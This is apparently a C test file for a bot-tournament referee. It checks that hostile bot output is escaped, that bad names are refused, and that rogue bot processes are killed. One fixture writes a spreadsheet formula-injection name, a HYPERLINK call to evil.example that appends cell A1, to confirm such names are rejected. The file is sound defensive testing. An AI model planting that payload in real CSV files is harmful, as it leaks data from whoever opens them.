/* test_hostile.c: nothing a bot writes is trusted. Every byte 0x00-0xff inside
 * a reply: the reply is malformed unless printable ASCII, and the record, the
 * console and the other bot see the bot's bytes only escaped. */
#include "helpers.h"
#include "proc.h"
#include "run.h"

#include <criterion/criterion.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

#define FIXTURE BUILD_DIR "/testbots/fixture"

static struct run_result r;

/* Whether text holds only printable ASCII and newlines. */
static bool is_clean(const char *text, size_t len)
{
    for (size_t i = 0; i < len; i++) {
        unsigned char c = (unsigned char)text[i];
        if (c != '\n' && (c < 0x20 || c > 0x7e))
            return false;
    }
    return true;
}

Test(hostile, every_byte_in_a_reply_is_judged_and_echoed_escaped, .timeout = 120)
{
    for (int b = 0; b < 256; b++) {
        char dir[64], bot[512], log[8192];
        test_tmpdir(dir, "hostile");
        snprintf(bot, sizeof(bot), "bad=" FIXTURE " byte %d", b);
        char *argv[] = {REFEREE_BIN, "match", "--bot",     bot, "--bot", "seer=" FIXTURE " tell",
                        "--games",   "1",     "--results", dir, NULL};
        cr_assert_eq(run_program(argv, NULL, &r), 0);
        cr_assert_eq(r.status, 0, "byte %d: %s", b, r.err);
        cr_expect(is_clean(r.out, strlen(r.out)), "byte %d: the console got it raw", b);
        struct table t;
        test_load(&t, dir, "games.csv");
        const char *reason = test_cell(&t, 0, "reason");
        cr_expect(is_clean(reason, strlen(reason)), "byte %d: reason %s", b, reason);
        cr_expect_str_eq(test_cell(&t, 0, "foul_by"), "bad", "byte %d: %s", b, reason);
        if (b != '\n') /* a newline splits it in two lines: "a1", then "z" */
            cr_expect_str_eq(test_cell(&t, 0, "foul"), "malformed", "byte %d: %s", b, reason);
        if (b == 0)
            cr_expect_str_eq(reason, "malformed reply \"a1\\0z\"", "not a1");
        if (b == 0x1b)
            cr_expect_str_eq(reason, "malformed reply \"a1\\x1bz\"");
        if (b == '\r')
            cr_expect_str_eq(reason, "malformed reply \"a1\\rz\"");
        table_release(&t);
        /* What the other bot was told, the result line's reason included. */
        test_slurp(dir, "logs/seer.log", log, sizeof(log));
        cr_expect(is_clean(log, strlen(log)), "byte %d: the opponent got it raw:\n%s", b, log);
        cr_expect(strstr(log, "result "), "byte %d: %s", b, log);
    }
}

Test(hostile, names_too_long_or_sharing_a_log_file_are_refused, .timeout = 30)
{
    char dir[64], longname[128];
    test_tmpdir(dir, "hostile");
    memset(longname, 'n', 65);
    strcpy(longname + 65, "=" FIXTURE " legal");
    char *argv[] = {REFEREE_BIN,           "match",     "--bot", longname, "--bot",
                    "b=" FIXTURE " legal", "--results", dir,     NULL};
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    cr_expect_eq(r.status, 2, "%s", r.err);
    cr_expect(strstr(r.err, "is not 1 to 64 bytes of printable ASCII"), "%s", r.err);

    char *newline[] = {REFEREE_BIN, "match",
                       "--bot",     "two\nlines=" FIXTURE " legal",
                       "--bot",     "b=" FIXTURE " legal",
                       "--results", dir,
                       NULL};
    cr_assert_eq(run_program(newline, NULL, &r), 0);
    cr_expect_eq(r.status, 2, "%s", r.err);
    cr_expect(strstr(r.err, "bot name 'two\\nlines' is not"), "%s", r.err);

    char *clash[] = {
        REFEREE_BIN, "match", "--bot", "a b=" FIXTURE " legal", "--bot", "a_b=" FIXTURE " legal",
        "--results", dir,     NULL};
    cr_assert_eq(run_program(clash, NULL, &r), 0);
    cr_expect_eq(r.status, 2, "%s", r.err);
    cr_expect(strstr(r.err, "bots 'a b' and 'a_b' would share the log file"), "%s", r.err);
}

/* A name a spreadsheet would take for a formula (= + - @ first) is refused
 * before anything is played or written, from --bot, a bots file and a league's
 * add alike: names land in every CSV file of a run. */
Test(hostile, names_a_spreadsheet_takes_for_formulas_are_refused_at_the_door, .timeout = 30)
{
    char dir[64], bots[128], games[128], league[128];
    test_tmpdir(dir, "hostile");
    snprintf(bots, sizeof(bots), "%s/bots.csv", dir);
    FILE *f = fopen(bots, "w");
    cr_assert(f);
    fprintf(f,
            "name,command\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\"%s "
            "legal\"\nb,\"%s legal\"\n",
            FIXTURE, FIXTURE);
    fclose(f);
    snprintf(games, sizeof(games), "%s/out", dir);
    char *file[] = {REFEREE_BIN, "tournament", "--bots", bots, "--results", games, NULL};
    cr_assert_eq(run_program(file, NULL, &r), 0);
    cr_expect_eq(r.status, 2, "%s", r.err);
    /* The name is echoed escaped and cut, as every name refused for its bytes. */
    cr_expect_str_eq(r.err, "referee: bot name '=HYPERLINK(\\\"http://evil.example/...' starts "
                            "with '=', which a spreadsheet takes for a formula\n");
    cr_expect_neq(access(games, F_OK), 0, "nothing was written");

    static const char *const names[] = {"+1", "-x", "@SUM(1)"};
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        char bot[128], want[128];
        snprintf(bot, sizeof(bot), "%s=" FIXTURE " legal", names[i]);
        char *argv[] = {REFEREE_BIN,           "match",     "--bot", bot, "--bot",
                        "b=" FIXTURE " legal", "--results", games,   NULL};
        cr_assert_eq(run_program(argv, NULL, &r), 0);
        cr_expect_eq(r.status, 2, "%s: %s", names[i], r.err);
        snprintf(want, sizeof(want), "bot name '%s' starts with '%c', which a spreadsheet",
                 names[i], names[i][0]);
        cr_expect(strstr(r.err, want), "%s", r.err);
        cr_expect_neq(access(games, F_OK), 0, "nothing was written");
    }

    snprintf(league, sizeof(league), "%s/league", dir);
    char *add[] = {REFEREE_BIN, "league", "add", league, "@SUM(1)=" FIXTURE " legal", NULL};
    cr_assert_eq(run_program(add, NULL, &r), 0);
    cr_expect_eq(r.status, 2, "%s", r.err);
    cr_expect_str_eq(r.err, "referee: entry name '@SUM(1)' starts with '@', which a spreadsheet "
                            "takes for a formula\n");

    /* A league's bots.csv edited by hand: its run refuses the row. */
    char *a[] = {REFEREE_BIN, "league", "add", league, "a=" FIXTURE " legal", NULL};
    char *b[] = {REFEREE_BIN, "league", "add", league, "b=" FIXTURE " legal", NULL};
    cr_assert_eq(run_program(a, NULL, &r), 0);
    cr_assert_eq(r.status, 0, "%s", r.err);
    cr_assert_eq(run_program(b, NULL, &r), 0);
    cr_assert_eq(r.status, 0, "%s", r.err);
    char roster[160];
    snprintf(roster, sizeof(roster), "%s/bots.csv", league);
    f = fopen(roster, "a");
    cr_assert(f);
    fprintf(f, "\"-1\",\"%s legal\",\"\",\"\",\"\"\n", FIXTURE);
    fclose(f);
    char *run[] = {REFEREE_BIN, "league", "run", league, "--games", "2", "-q", NULL};
    cr_assert_eq(run_program(run, NULL, &r), 0);
    cr_expect_eq(r.status, 3, "%s", r.err);
    cr_expect(strstr(r.err, "/bots.csv', row 3: name '-1' starts with '-', which a spreadsheet "
                            "takes for a formula\n"),
              "%s", r.err);
}

Test(hostile, log_cap_0_keeps_no_log, .timeout = 30)
{
    char dir[64], path[128];
    test_tmpdir(dir, "hostile");
    char *argv[] = {REFEREE_BIN, "match",
                    "--bot",     "a=" FIXTURE " stderr 4",
                    "--bot",     "b=" FIXTURE " legal",
                    "--log-cap", "0",
                    "--results", dir,
                    NULL};
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    cr_expect_eq(r.status, 0, "%s", r.err);
    snprintf(path, sizeof(path), "%s/logs/a.log", dir);
    cr_expect_neq(access(path, F_OK), 0, "%s exists", path);
}

/* The pid after `key` in dir/logs/<bot>.log, or 0. */
static pid_t pid_in_log(const char *dir, const char *bot, const char *key)
{
    char file[128], text[8192];
    snprintf(file, sizeof(file), "logs/%s.log", bot);
    char path[256];
    snprintf(path, sizeof(path), "%s/%s", dir, file);
    if (access(path, R_OK) != 0)
        return 0;
    test_slurp(dir, file, text, sizeof(text));
    const char *at = strstr(text, key);
    return at ? (pid_t)atoi(at + strlen(key)) : 0;
}

/* Whether pid is gone (or a zombie nobody will see again) within ms. */
static bool vanishes(pid_t pid, int ms)
{
    for (int i = 0; i < ms; i++) {
        char path[64], state = 0, text[512];
        snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
        FILE *f = fopen(path, "r");
        if (!f)
            return true;
        size_t n = fread(text, 1, sizeof(text) - 1, f);
        fclose(f);
        text[n] = '\0';
        const char *p = strrchr(text, ')');
        if (p && sscanf(p + 1, " %c", &state) == 1 && state == 'Z')
            return true;
        usleep(1000);
    }
    return false;
}

Test(hostile, a_double_forked_setsid_grandchild_does_not_outlive_the_run, .timeout = 60)
{
    char dir[64];
    test_tmpdir(dir, "hostile");
    char *argv[] = {REFEREE_BIN, "match",
                    "--bot",     "d=" FIXTURE " daemon",
                    "--bot",     "b=" FIXTURE " legal",
                    "--games",   "2",
                    "--results", dir,
                    NULL};
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    cr_expect_eq(r.status, 0, "%s", r.err);
    pid_t daemon = pid_in_log(dir, "d", "daemon ");
    cr_assert_gt(daemon, 0, "no daemon pid in the log");
    cr_expect(vanishes(daemon, 1000), "the daemon %d outlived the run", (int)daemon);
    if (!vanishes(daemon, 1))
        kill(daemon, SIGKILL);
}

Test(hostile, a_bot_in_referees_own_group_is_stopped_within_grace_and_100_ms, .timeout = 60)
{
    char dir[64];
    test_tmpdir(dir, "hostile");
    /* It ignores SIGTERM and quit; the stop's grace is 200 ms. */
    char *argv[] = {REFEREE_BIN, "match",
                    "--bot",     "j=" FIXTURE " joingroup",
                    "--bot",     "b=" FIXTURE " legal",
                    "--games",   "1",
                    "--results", dir,
                    NULL};
    int64_t t0 = proc_now_ns();
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    int64_t ms = (proc_now_ns() - t0) / 1000000;
    cr_expect_eq(r.status, 0, "%s", r.err);
    cr_expect_lt(ms, 200 + 100 + 400, "the run took %lld ms", (long long)ms);
}

Test(hostile, bots_die_with_a_referee_killed_by_sigkill, .timeout = 60)
{
    char dir[64], out[128];
    test_tmpdir(dir, "hostile");
    snprintf(out, sizeof(out), "%s.out", dir);
    char *argv[] = {REFEREE_BIN, "match",
                    "--bot",     "s1=" FIXTURE " stay",
                    "--bot",     "s2=" FIXTURE " stay",
                    "--games",   "1000",
                    "--results", dir,
                    "--quiet",   NULL};
    pid_t referee = test_start(argv, "/dev/null");
    pid_t bots[2] = {0, 0};
    for (int i = 0; i < 5000 && (!bots[0] || !bots[1]); i++) {
        bots[0] = pid_in_log(dir, "s1", "pid ");
        bots[1] = pid_in_log(dir, "s2", "pid ");
        usleep(1000);
    }
    cr_assert(bots[0] > 0 && bots[1] > 0, "the bots did not start");
    kill(referee, SIGKILL);
    waitpid(referee, NULL, 0);
    for (int b = 0; b < 2; b++) {
        cr_expect(vanishes(bots[b], 1000), "bot %d outlived referee", (int)bots[b]);
        kill(bots[b], SIGKILL);
    }
}

/* The next referee run_program starts fails its first n vforks (EAGAIN):
 * tests/faults/fork_fails.c preloaded. A sanitized referee is told not to
 * mind that its runtime is not the first library loaded. */
static void preload_fork_fails(const char *n)
{
    char asan[512];
    const char *had = getenv("ASAN_OPTIONS");
    snprintf(asan, sizeof(asan), "%s%sverify_asan_link_order=0", had ? had : "",
             had && *had ? ":" : "");
    setenv("ASAN_OPTIONS", asan, 1);
    setenv("LD_PRELOAD", BUILD_DIR "/faults/fork_fails.so", 1);
    setenv("FAULT_FORK_FAILS", n, 1);
}

/* A fork that fails with EAGAIN (a process limit, a fork bomb's doing) is
 * tried again with a backoff; past it, that game is lost, not the run. The
 * failures are injected from outside: tests/faults/fork_fails.c, preloaded
 * into the referee started here (root is not bound by RLIMIT_NPROC). */
Test(hostile, fork_failing_with_eagain_costs_a_game_not_the_run, .timeout = 60)
{
    char dir[64];
    struct table t;
    char *argv[] = {REFEREE_BIN, "match",
                    "--bot",     "a=" FIXTURE " legal",
                    "--bot",     "b=" FIXTURE " legal",
                    "--games",   "2",
                    "--results", NULL,
                    NULL};

    test_tmpdir(dir, "hostile");
    argv[9] = dir;
    preload_fork_fails("3");
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    cr_expect_eq(r.status, 0, "a few failures are retried: %s", r.err);
    test_load(&t, dir, "games.csv");
    cr_expect_str_eq(test_cell(&t, 0, "foul"), "", "%s", test_cell(&t, 0, "reason"));
    table_release(&t);

    test_tmpdir(dir, "hostile");
    argv[9] = dir;
    preload_fork_fails("1000000");
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    unsetenv("FAULT_FORK_FAILS");
    unsetenv("LD_PRELOAD");
    cr_expect_eq(r.status, 0, "the run goes on: %s", r.err);
    test_load(&t, dir, "games.csv");
    cr_assert_eq(t.nrows, 2);
    for (size_t i = 0; i < t.nrows; i++) {
        cr_expect_str_eq(test_cell(&t, i, "foul"), "could-not-start");
        cr_expect_str_eq(test_cell(&t, i, "reason"),
                         "could not start (resource temporarily unavailable)");
    }
    table_release(&t);
}
